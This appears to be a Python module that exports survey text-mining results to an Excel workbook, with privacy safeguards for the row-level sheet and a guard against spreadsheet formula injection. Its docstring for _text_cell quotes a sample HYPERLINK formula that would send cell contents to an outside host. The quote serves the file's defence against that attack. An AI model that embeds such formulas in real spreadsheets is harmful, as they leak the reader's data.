"""Excel workbook (openpyxl): one sheet per table, coded responses and the codebook."""

from __future__ import annotations

from collections.abc import Iterable
from functools import lru_cache
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter

from .model import ReportData
from ..summary import secondary_levels
from ..survey import SurveyDefinition
from .views import HIDDEN_CHANGE, HIDDEN_INDICATOR, HIDDEN_THEME, METHOD_NAMES, hide_suppressed, method_lines

HEADER_FILL = PatternFill("solid", fgColor="DCE6F1")
PCT = "0.0%"

# (sheet name, attribute, {column: Norwegian header}, percent columns)
SHEETS = [
    ("Indikatorer", "indicators",
     {"wave": "Måling", "indicator": "Variabel", "label": "Indikator", "segment_var": "Segmentvariabel",
      "segment": "Segment", "share": "Andel positive", "ci_low": "KI nedre", "ci_high": "KI øvre",
      "n": "n (positive)", "base": "Grunnlag", "mean": "Snitt", "suppressed": "Skjult",
      "n_eff": "Effektiv n", "ci_method": "KI-metode", "share_unweighted": "Andel positive (uvektet)"},
     {"share", "ci_low", "ci_high"}),
    ("Temaer", "themes",
     {"wave": "Måling", "question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "segment_var": "Segmentvariabel",
      "segment": "Segment", "count": "n (nevner temaet)", "base": "Grunnlag (svarte)", "share": "Andel av svarte",
      "ci_low": "KI nedre", "ci_high": "KI øvre", "asked": "Spurt", "share_asked": "Andel av spurte",
      "respondents": "Respondenter", "share_all": "Andel av alle", "suppressed": "Skjult",
      "n_eff": "Effektiv n", "ci_method": "KI-metode"},
     {"share", "ci_low", "ci_high", "share_asked", "share_all"}),
    ("Endring", "changes",
     {"kind": "Type", "key": "Id", "label": "Hva", "question": "Spørsmål", "prev_wave": "Forrige måling",
      "wave": "Måling", "prev_share": "Forrige andel", "share": "Andel", "diff": "Endring (andel)",
      "ci_low": "KI nedre (endring)", "ci_high": "KI øvre (endring)", "verdict": "Vurdering",
      "p_value": "p-verdi (ujustert)", "p_adjusted": "p-verdi (BH-justert)", "n_prev": "Grunnlag forrige",
      "n": "Grunnlag", "verdict_unadjusted": "Vurdering (ujustert)", "weighted": "Vektet", "suppressed": "Skjult"},
     {"prev_share", "share", "diff", "ci_low", "ci_high"}),
    ("Betydning", "impact",
     {"question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "indicator": "Indikator",
      "indicator_label": "Indikatortekst", "share_with": "Andel positive med tema",
      "share_without": "Andel positive uten tema", "diff": "Forskjell", "ci_low": "KI nedre", "ci_high": "KI øvre",
      "n_with": "n med", "n_without": "n uten", "verdict": "Vurdering", "p_value": "p (ujustert)",
      "p_adjusted": "p (BH-justert)",
      "adjusted_pp": "Justert effekt (pp)", "adjusted_ci_low_pp": "Justert KI nedre (pp)",
      "adjusted_ci_high_pp": "Justert KI øvre (pp)", "adjusted_p": "Justert p (BH)",
      "adjusted_verdict": "Justert vurdering", "adjusted_method": "Modell"},
     {"share_with", "share_without", "diff", "ci_low", "ci_high"}),
    ("Sitater", "quotes",
     {"wave": "Måling", "question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "text": "Sitat",
      "attribution": "Avsender"}, set()),
]


# Cell-level numbers that a suppressed row (``suppressed`` = "Skjult") must not show, its bases included: the
# report views' lists (see textmine.report.views), and the impact sheet's own.
HIDDEN = {
    "indicators": HIDDEN_INDICATOR,
    "themes": HIDDEN_THEME,
    "changes": HIDDEN_CHANGE,
    "impact": ("share_with", "share_without", "diff", "ci_low", "ci_high", "p_value", "p_adjusted",
               "adjusted_pp", "adjusted_ci_low_pp", "adjusted_ci_high_pp", "adjusted_p"),
}


def _write(ws, df: pd.DataFrame, headers: dict[str, str], pct: set[str]) -> None:
    """Write a table to a write-only sheet: bold header, frozen first row, filters, % formats."""
    cols = [c for c in headers if c in df.columns] + [c for c in df.columns if c not in headers]
    for j, c in enumerate(cols, start=1):
        width = 60 if c in ("text", "text_clean") else min(40, max(10, len(headers.get(c, c)) + 2))
        ws.column_dimensions[get_column_letter(j)].width = width
    ws.freeze_panes = "A2"
    if len(cols):
        ws.auto_filter.ref = f"A1:{get_column_letter(len(cols))}{len(df) + 1}"
    header = []
    for c in cols:
        cell = WriteOnlyCell(ws, value=headers.get(c, c))
        if isinstance(cell.value, str) and cell.value.startswith("="):
            cell.data_type = "s"
        cell.font = Font(bold=True)
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        header.append(cell)
    ws.append(header)
    pct_idx = {i for i, c in enumerate(cols) if c in pct}
    for row in df[cols].itertuples(index=False):
        out = []
        for i, v in enumerate(row):
            v = _cell(v)
            if i in pct_idx and v is not None:
                cell = WriteOnlyCell(ws, value=v)
                cell.number_format = PCT
                out.append(cell)
            elif isinstance(v, str) and v.startswith("="):
                out.append(_text_cell(ws, v))
            else:
                out.append(v)
        ws.append(out)


def _text_cell(ws, v: str) -> WriteOnlyCell:
    """A cell that shows ``v`` as text: openpyxl would store text starting with ``=`` as a live formula
    (a comment such as ``=HYPERLINK("http://x/?"&A1)`` must never run in the reader's Excel)."""
    cell = WriteOnlyCell(ws, value=v)
    cell.data_type = "s"
    return cell


def _cell(v):
    if v is None:
        return None
    try:
        if pd.isna(v):
            return None
    except (TypeError, ValueError):
        pass
    if hasattr(v, "item"):
        return v.item()
    if isinstance(v, str) and len(v) > EXCEL_CELL_MAX:
        # Excel holds at most 32,767 characters per cell (openpyxl would cut silently): cut visibly instead
        mark = f" … [avkortet i Excel: {len(v):,} tegn; hele teksten står i CSV/SAV-filene]".replace(",", " ")
        return v[: EXCEL_CELL_MAX - len(mark)] + mark
    return v


EXCEL_CELL_MAX = 32_767


ROW_LEVEL_SHEET = "Kodede svar"


def write_workbook(r: ReportData, path: str | Path, *, row_level: bool = True,
                   omit_columns: Iterable[str] = ()) -> Path:
    """Write the report tables, coded responses, codebook and method notes to ``path`` (.xlsx).

    ``row_level=False`` leaves out the one-row-per-comment sheet «Kodede svar» (summaries and checked quotes
    only); ``omit_columns`` are coded-answer columns (e.g. ``respondent_id``, identifying segments) left out of it."""
    path = Path(path)
    wb = Workbook(write_only=True)
    for name, attr, headers, pct in SHEETS:
        headers = _scale_headers(r, headers) if attr == "indicators" else headers
        _write(wb.create_sheet(name), hide_suppressed(getattr(r, attr), HIDDEN.get(attr, ())), headers, pct)
    notes: list[str] = []
    if row_level:
        notes.append(_write_coded(wb, r, set(omit_columns)))
    cb = pd.DataFrame(r.codebook or [], columns=["id", "label", "description", "keywords", "parent", "exclusive"])
    cb["keywords"] = cb["keywords"].map(lambda k: ", ".join(k) if isinstance(k, (list, tuple)) else k)
    _write(wb.create_sheet("Kodebok"), cb, {"id": "Tema-id", "label": "Tema", "description": "Beskrivelse",
                                            "keywords": "Nøkkelord", "parent": "Overordnet", "exclusive": "Eksklusiv"},
           set())
    method = pd.DataFrame(_with_notes(method_lines(r.method), notes), columns=["key", "value"])
    _write(wb.create_sheet("Metode"), method, {"key": "Punkt", "value": "Beskrivelse"}, set())
    wb.properties.creator = "textmine"
    wb.save(path)
    return path


def _with_notes(lines: list[tuple[str, str]], notes: list[str]) -> list[tuple[str, str]]:
    """The method lines with ``notes`` added to the line «Merknader» (made when there is none)."""
    if not notes:
        return lines
    key = METHOD_NAMES["warnings"]
    for i, (k, v) in enumerate(lines):
        if k == key:
            return lines[:i] + [(k, "; ".join([v, *notes]))] + lines[i + 1:]
    return lines + [(key, " ".join(notes))]


def _scale_headers(r: ReportData, headers: dict[str, str]) -> dict[str, str]:
    """«Snitt (1–5)»: the mean's header with the survey definition's scale (plain «Snitt» when unknown)."""
    scale = (r.method.get("labels") or {}).get("scale")
    return {**headers, "mean": f"Snitt ({scale})"} if scale else headers


CODED_HEADERS = {"respondent_id": "Respondent-id", "wave": "Måling", "question": "Spørsmål",
                 "text_clean": "Kommentar (anonymisert)", "themes": "Temaer", "type": "Type",
                 "confidence": "Sikkerhet", "needs_review": "Til gjennomgang", "is_non_answer": "Ikke-svar",
                 "language": "Språk"}


# headers of the sample survey's columns for tables built without a survey definition (the definition's labels win)
SAMPLE_COLUMN_HEADERS = {"sektor": "Sektor", "ansatte": "Antall ansatte", "naering": "Næring", "fylke": "Fylke",
                         "vekt": "Vekt"}


def _write_coded(wb, r: ReportData, omit: set[str]) -> str:
    """The row-level sheet: one row per coded comment, without theme dummies and the ``omit`` columns; the
    survey definition's columns (segments, weight) under their labels, declared segment levels as display text.
    Made safe by :func:`safe_coded_rows` (small cells, health data); returns the method note saying what it did."""
    min_cell = _min_cell(r)
    segments = [c for c in r.segments if c in r.coded.columns and c not in omit]
    coded, n_small, n_health = safe_coded_rows(r.coded, segments, min_cell)
    n_weight = int(coded.attrs.get(WEIGHT_BLANKED_ATTR, 0))
    drop = [c for c in coded.columns if c.startswith("theme_") or c in omit or c == "health_flag"]
    declared = r.method.get("labels") or {}
    coded = coded.drop(columns=drop)
    for col, display in (declared.get("values") or {}).items():
        if col in coded.columns:
            coded[col] = coded[col].map(lambda v, d=display: d.get(_level_key(v), v))
    first = {k: CODED_HEADERS[k] for k in ("respondent_id", "wave")}  # then the survey's columns, as coded_view
    headers = {**first, **SAMPLE_COLUMN_HEADERS, **r.segments, **(declared.get("columns") or {}), **CODED_HEADERS}
    _write(wb.create_sheet(ROW_LEVEL_SHEET), coded, headers, set())
    return row_level_note(n_small, n_health, min_cell, n_weight=n_weight)


# the comment text of a health-flagged comment in the row-level export (its theme codes stay)
HEALTH_NOTE = "[helseopplysning – vises ikke i eksport]"
# the survey definition's default min_cell, for report data without method notes
DEFAULT_MIN_CELL = SurveyDefinition.__dataclass_fields__["min_cell"].default


def _min_cell(r: ReportData) -> int:
    """The survey's small-cell threshold (``min_n`` of the method notes; the survey default without them)."""
    value = (r.method or {}).get("min_n")
    try:
        return int(value) if value is not None else DEFAULT_MIN_CELL
    except (TypeError, ValueError):
        return DEFAULT_MIN_CELL


def row_level_note(n_small: int, n_health: int, min_cell: int, *, n_weight: int = 0) -> str:
    """The one-line explanation of the row-level sheet's protections (sheet «Metode»)."""
    rows = "rad" if n_small == 1 else "rader"
    comments = "kommentar" if n_health == 1 else "kommentarer"
    weight = ""
    if n_weight:
        weight = (f" Vekten er fjernet i de samme radene ({n_weight}), fordi den kan røpe segmentet (f.eks. fylket)"
                  f" den er beregnet fra.")
    return (f"«{ROW_LEVEL_SHEET}»: {n_small} {rows} har fått segmentverdier fjernet fordi segmentet har færre enn "
            f"{min_cell} kommentatorer på spørsmålet i målingen (samme grense som for tabeller og sitater). "
            f"Når bare ett segment er for lite, er også det nest minste fjernet, og en respondent som er fjernet i én "
            f"rad, er fjernet i alle sine rader.{weight} "
            f"{n_health} {comments} med helseopplysninger er erstattet med «{HEALTH_NOTE}» (temakodene er beholdt).")


#: ``attrs`` key of :func:`safe_coded_rows`' frame: the number of rows whose weight (and other per-respondent
#: columns) was blanked with their segment values
WEIGHT_BLANKED_ATTR = "weight_blanked"

# columns of the row-level rows that are not per-respondent values which could give a blanked segment back
_CODED_COLUMNS = frozenset(CODED_HEADERS) | {"health_flag"}


def safe_coded_rows(coded: pd.DataFrame, segments: list[str], min_cell: int, *,
                    weight_columns: Iterable[str] | None = None) -> tuple[pd.DataFrame, int, int]:
    """The row-level rows with the protections the summary's tables and quotes have: (rows, n small, n health).

    * Small cells: a segment value is blanked in the rows of a cell (wave × question × segment value, as in the
      theme tables) with fewer than ``min_cell`` commenters (distinct respondents with a real comment; the cell's
      non-answers are blanked with it), so no cell the tables suppress can be picked out of the rows. So that a
      blank cannot be filled back in:
        - secondary rule: when exactly one level of a segment is small (wave × question), the next smallest level
          is blanked too (a blank could otherwise only mean that level);
        - per respondent: a respondent's value blanked in one row (one question) is blanked in all their rows of
          the wave;
        - the weight (``weight_columns``; by default every column that is neither a segment nor one of the
          coded-answer columns — the survey's weight, e.g. a post-stratification weight per county) is blanked in
          every row with a blanked segment value. The number of such rows is in ``rows.attrs["weight_blanked"]``.
    * Health data: a comment flagged ``health_flag`` (or flagged now by the health word lists) is replaced by
      :data:`HEALTH_NOTE`; its theme codes stay.

    ``n small`` counts the rows with any segment value blanked. ``coded`` is not changed."""
    out = coded.copy()
    changed = _blank_small_cells(out, segments, min_cell)
    if weight_columns is None:
        weight_columns = [c for c in out.columns if c not in _CODED_COLUMNS and c not in segments
                          and not str(c).startswith("theme_")]
    n_weight = 0
    if changed.any():
        for c in weight_columns:
            if c in out.columns:  # numeric weights stay numeric (NaN), for the .sav and the sheet's number cells
                numeric = pd.api.types.is_numeric_dtype(out[c]) and not pd.api.types.is_bool_dtype(out[c])
                out[c] = out[c].astype(float).where(~changed) if numeric else out[c].astype(object).where(~changed, None)
        n_weight = int(changed.sum()) if any(c in out.columns for c in weight_columns) else 0
    n_health = _hide_health_texts(out)
    out.attrs[WEIGHT_BLANKED_ATTR] = n_weight
    return out, int(changed.sum()), n_health


def _blank_small_cells(out: pd.DataFrame, segments: list[str], min_cell: int) -> np.ndarray:
    """Blank small cells' segment values in ``out`` (in place); returns the rows with any value blanked."""
    changed = np.zeros(len(out), dtype=bool)
    if not segments or not len(out) or min_cell <= 1:
        return changed
    keys = pd.DataFrame(index=out.index)
    group = [c for c in ("wave", "question") if c in out.columns]
    for c in group + segments:
        keys[c] = out[c].map(_key_text)
    ids = out["respondent_id"] if "respondent_id" in out.columns else pd.Series(range(len(out)), index=out.index)
    # commenters, as the tables count them: rows with a real comment (non-answers and blanks shown, not counted)
    real = np.ones(len(out), dtype=bool)
    if "is_non_answer" in out.columns:
        real &= pd.to_numeric(out["is_non_answer"], errors="coerce").fillna(0).to_numpy() == 0
    if "text_clean" in out.columns:
        real &= np.array([isinstance(t, str) and bool(t.strip()) for t in out["text_clean"].to_numpy()], dtype=bool)
    keys["_id"] = ids.map(_key_text).where(real, None)
    # a respondent: the same id in the same wave (a respondent has one row per question answered)
    person = keys[["wave"]].assign(_rid=ids.map(_key_text).to_numpy()) if "wave" in keys.columns \
        else pd.DataFrame({"_rid": ids.map(_key_text).to_numpy()}, index=out.index)
    for c in segments:
        values = out[c].astype(object)
        present = values.notna().to_numpy()
        count = keys.groupby(group + [c], sort=False, dropna=False)["_id"].transform("nunique").to_numpy()
        small = (count < min_cell) & present
        # secondary rule, per wave × question: one small level → the next smallest level (by commenters) too
        pos = np.flatnonzero(present)
        if len(pos):
            cell = keys.iloc[pos][group + [c]].reset_index(drop=True).assign(_n=count[pos], _pos=pos)
            parts = cell.groupby(group, sort=False, dropna=False) if group else [(None, cell)]
            for _, part in parts:
                levels = part.groupby(c, sort=False)["_n"].first()
                n = levels.to_numpy()  # (every level here has rows, even one whose rows are all non-answers)
                extra = secondary_levels(n, n < min_cell, present=np.ones(len(n), dtype=bool))
                for level in levels.index[extra]:
                    small[part["_pos"].to_numpy()[part[c].to_numpy() == level]] = True
        # per respondent: blanked in one of their rows → blanked in all of them
        if small.any():
            hit = pd.Series(small).groupby([person[k].to_numpy() for k in person.columns], sort=False) \
                .transform("any").to_numpy()
            small = (small | hit) & present
        if small.any():
            changed |= small
            out[c] = values.where(~small, None)
    return changed


def _key_text(v) -> str:
    """A cell as a grouping key: missing values one level of their own."""
    try:
        if v is None or pd.isna(v):
            return "\x00"
    except (TypeError, ValueError):
        pass
    return _level_key(v)


def _hide_health_texts(out: pd.DataFrame) -> int:
    if "text_clean" not in out.columns or not len(out):
        return 0
    flagged = np.zeros(len(out), dtype=bool)
    if "health_flag" in out.columns:
        flagged |= pd.to_numeric(out["health_flag"], errors="coerce").fillna(0).to_numpy() > 0
    flagger = _health_flagger()
    texts = out["text_clean"].astype(object).to_numpy()
    flagged |= np.array([isinstance(t, str) and bool(t.strip()) and flagger(t) for t in texts], dtype=bool)
    if flagged.any():
        out["text_clean"] = out["text_clean"].astype(object).where(~flagged, HEALTH_NOTE)
    return int(flagged.sum())


@lru_cache(maxsize=1)
def _health_flagger():
    """The cleaner's health check (word lists only: no lexicon or language models loaded)."""
    from ..preprocess.health import HealthFlagger
    from ..preprocess.normalize import normalize

    flagger = HealthFlagger.from_wordlists()
    return lambda text: flagger.flag(normalize(text))


def _level_key(v):
    """A cell as the survey definition writes its levels: 2.0 → "2"."""
    return str(int(v)) if isinstance(v, float) and v.is_integer() else str(v)
